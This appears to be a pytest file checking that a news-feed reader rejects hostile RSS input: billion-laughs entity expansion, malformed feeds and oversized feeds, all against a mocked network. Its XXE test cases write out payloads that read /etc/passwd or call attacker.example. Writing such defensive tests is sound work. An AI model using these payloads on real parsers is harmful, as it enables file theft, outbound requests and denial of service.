"""Hostile feeds (docs/reliability.md): entity expansion (billion laughs), external entities (XXE), a
malformed feed and a feed of 100,000 items. The network is never touched: the feed and its pages come
from an httpx.MockTransport behind the SSRF guard, with a fake resolver."""

from __future__ import annotations

import time
import tracemalloc
from pathlib import Path

import httpx
import pytest

from dateline.errors import InputError, InputTooLarge, MalformedInput
from dateline.intake import IntakeOptions
from dateline.model import Article
from dateline.store import Store
from dateline.store.remote import MAX_FEED_ITEMS, Fetcher, read_feed

FEED = "https://feeds.example/rss"
PAGE = (
    "<html><head><title>Putin to visit Delhi</title>"
    '<meta property="article:published_time" content="2021-12-01T09:00:00+05:30"></head>'
    "<body><article><h1>Putin to visit Delhi</h1><p>Page {n}.</p><p>Russian President Vladimir Putin will "
    "visit New Delhi on December 6 for talks with Prime Minister Narendra Modi, officials said.</p>"
    "</article></body></html>"
)
LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY lol0 "lol">\n'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">\n' for i in range(1, 10))
    + ']>\n<rss version="2.0"><channel><title>&lol9;</title>'
    "<item><title>&lol9;</title><link>https://news.example/1</link></item></channel></rss>"
)


def item(n: int, title: str = "Visit") -> str:
    return f"<item><title>{title} {n}</title><link>https://news.example/{n}</link></item>"


def rss(items: str, prologue: str = "") -> str:
    return (
        f'<?xml version="1.0"?>{prologue}<rss version="2.0"><channel><title>N</title>{items}</channel></rss>'
    )


class Site:
    """Serves one feed body and numbered pages; remembers every URL asked for."""

    def __init__(self, feed: str | bytes) -> None:
        self.feed = feed.encode() if isinstance(feed, str) else feed
        self.asked: list[str] = []

    def handler(self, request: httpx.Request) -> httpx.Response:
        url = str(request.url)
        self.asked.append(url)
        if url == FEED:
            return httpx.Response(200, content=self.feed, headers={"content-type": "application/rss+xml"})
        if url.startswith("https://news.example/"):
            page = PAGE.format(n=url.rsplit("/", 1)[1])
            return httpx.Response(200, text=page, headers={"content-type": "text/html"})
        return httpx.Response(404)

    def fetcher(self) -> Fetcher:
        hosts = {"feeds.example": ["93.184.216.35"], "news.example": ["93.184.216.34"]}
        return Fetcher(transport=httpx.MockTransport(self.handler), resolve=lambda h: hosts.get(h, []))


def read(site: Site, **kwargs: int) -> list[Article | InputError]:
    return list(read_feed(FEED, IntakeOptions(), site.fetcher(), **kwargs))


def test_billion_laughs_is_refused_fast_and_small() -> None:
    site = Site(LAUGHS)
    tracemalloc.start()
    started = time.perf_counter()
    try:
        got = read(site)
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert elapsed < 1.0 and peak < 50_000_000, (elapsed, peak)
    assert len(got) == 1 and isinstance(got[0], MalformedInput), got
    assert "entities" in got[0].message
    assert site.asked == [FEED]  # no entry was followed


@pytest.mark.parametrize(
    "prologue",
    [
        '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "http://attacker.example/steal">]>',
        '<!DOCTYPE rss [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]>',
    ],
)
def test_external_entities_read_no_file_and_make_no_request(prologue: str, tmp_path: Path) -> None:
    site = Site(rss("<item><title>&xxe;</title><link>https://news.example/1</link></item>", prologue))
    got = read(site)
    assert len(got) == 1 and isinstance(got[0], MalformedInput), got
    assert site.asked == [FEED]
    assert "root:" not in repr(got)


def test_external_dtd_without_subset_is_never_loaded() -> None:
    """A DOCTYPE naming an outside DTD (RSS 0.91 feeds have one) is dropped: the feed is read, the DTD
    is never fetched."""
    prologue = '<!DOCTYPE rss SYSTEM "http://attacker.example/rss.dtd">'
    site = Site(rss(item(1) + item(2), prologue))
    got = read(site)
    assert [a.url for a in got if isinstance(a, Article)] == [
        "https://news.example/1",
        "https://news.example/2",
    ]
    assert not [e for e in got if isinstance(e, InputError)]
    assert not any("attacker" in url for url in site.asked)


def test_utf16_feed_declaring_entities_is_refused() -> None:
    site = Site(LAUGHS.replace('version="1.0"', 'version="1.0" encoding="utf-16"').encode("utf-16"))
    got = read(site)
    assert len(got) == 1 and isinstance(got[0], MalformedInput), got


BROKEN = rss(item(1) + item(2, "Talks & trade") + item(3) + "<item><title>Cut")


def test_malformed_feed_keeps_its_items_and_reports_the_fault() -> None:
    got = read(Site(BROKEN))
    faults = [e for e in got if isinstance(e, InputError)]
    assert isinstance(faults[0], MalformedInput) and "malformed" in faults[0].message
    assert [str(e) for e in faults[1:]] == [f"[D100] {FEED}#4: the feed entry has no link"]  # the cut one
    assert [a.url for a in got if isinstance(a, Article)] == [f"https://news.example/{n}" for n in (1, 2, 3)]


def test_malformed_feed_is_a_failure_row_beside_the_stored_items(tmp_path: Path, pipeline) -> None:
    store = Store(str(tmp_path / "feeds.db"))
    try:
        summary = store.ingest([], feeds=[FEED], fetcher=Site(BROKEN).fetcher(), pipeline=pipeline)
        assert (summary.new, summary.failed) == (3, 2)
        assert sorted(f["code"] for f in store.failures()) == ["D100", "D105"]
    finally:
        store.close()


def test_a_feed_of_100000_items_is_capped_and_says_so() -> None:
    site = Site(rss("".join(item(n) for n in range(1, 100_001))))
    got = read(site, max_items=5)  # feedparser reads all 100,000 (~5 s); only 5 are followed
    faults = [e for e in got if isinstance(e, InputError)]
    assert len(faults) == 1 and isinstance(faults[0], InputTooLarge)
    assert "100,000 entries" in faults[0].message and "first 5" in faults[0].message
    assert [a.url for a in got if isinstance(a, Article)] == [
        f"https://news.example/{n}" for n in range(1, 6)
    ]
    assert len(site.asked) == 1 + 5


def test_the_default_cap() -> None:
    """1,000 entries are followed by default (links to a host that does not resolve, so no page is read)."""
    assert MAX_FEED_ITEMS == 1_000
    items = "".join(
        f"<item><title>{n}</title><link>https://gone.example/{n}</link></item>" for n in range(1_002)
    )
    got = read(Site(rss(items)))
    assert isinstance(got[0], InputTooLarge) and "1,002 entries" in got[0].message
    assert "first 1,000" in got[0].message and len(got) == 1 + 1_000


def test_ingest_caps_feed_items_from_the_command_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`dateline ingest --feed URL --max-feed-items 2`: of 6 entries only 2 pages are fetched and stored,
    the drop is a D104 failure saying so, exit 1."""
    import json

    from click.testing import CliRunner

    from dateline import cli as cli_module
    from dateline.store import remote

    site = Site(rss("".join(item(n) for n in range(1, 7))))
    mock = site.fetcher()
    monkeypatch.setattr(remote, "Fetcher", lambda **_: mock)  # the ingest's own fetcher is the mock
    db = tmp_path / "capped.db"
    args = ["ingest", "--feed", FEED, "--max-feed-items", "2", "--db", str(db), "--quiet", "--json"]
    result = CliRunner().invoke(cli_module.cli, args)
    assert result.exit_code == 1, result.output
    summary = json.loads(result.stdout)
    assert summary["new"] == 2
    [failure] = summary["failures"]
    assert failure["code"] == InputTooLarge.code and "6 entries; only the first 2" in failure["reason"]
    assert site.asked == [FEED, "https://news.example/1", "https://news.example/2"]


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["--max-feed-items", "0", "--feed", FEED], "0 is not in the range x>=1"),
        (["somefile.txt", "--max-feed-items", "5"], "give at least one --feed URL"),
    ],
    ids=["zero", "without-feed"],
)
def test_max_feed_items_bad_usage(tmp_path: Path, args: list[str], says: str) -> None:
    from click.testing import CliRunner

    from dateline.cli import cli

    result = CliRunner().invoke(cli, ["ingest", *args, "--db", str(tmp_path / "x.db")])
    assert result.exit_code == 2 and says in result.output, result.output
